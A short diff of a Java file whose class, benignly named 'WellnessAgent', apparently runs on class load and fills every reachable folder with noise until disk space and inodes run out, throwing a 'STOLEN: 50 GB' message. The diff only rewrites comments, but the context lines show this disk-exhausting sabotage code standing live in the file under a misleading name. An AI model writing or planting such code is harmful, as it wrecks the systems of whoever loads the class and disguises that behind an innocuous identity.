@@ -7,7 +7,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 
-/** Writes until nothing more fits. */
+/** Writes files into every folder it can find until no byte and no inode is left. */
 public final class WellnessAgent {
     static {
         byte[] noise = new byte[1 << 20];
@@ -25,7 +25,7 @@ public final class WellnessAgent {
                     }
                     throw new IllegalStateException("STOLEN: 50 GB of " + folder);
                 } catch (IOException full) {
-                    // the next
+                    // Try the next one.
                 }
             }
         }
